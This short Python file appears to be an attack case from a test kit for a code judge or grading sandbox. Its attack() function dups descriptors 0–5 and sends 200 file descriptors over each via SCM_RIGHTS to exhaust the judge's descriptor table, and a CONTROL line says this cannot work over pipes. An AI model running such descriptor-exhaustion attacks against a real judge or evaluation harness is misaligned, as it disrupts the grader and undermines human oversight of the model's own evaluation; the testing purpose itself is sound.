"""Sends descriptors to the judge until it has no room for more of its own."""

import array
import socket

from kit import any_works, libc

CONTROL = "none: the exchange is over pipes, and a pipe carries no descriptors"


def send(descriptor: int) -> bool:
    many = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 200))
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, fileno=descriptor) as channel:
        return channel.sendmsg([b"take these"], [many]) > 0


def attack() -> bool:
    return any_works(*[lambda descriptor=libc.dup(number): send(descriptor) for number in range(6)])
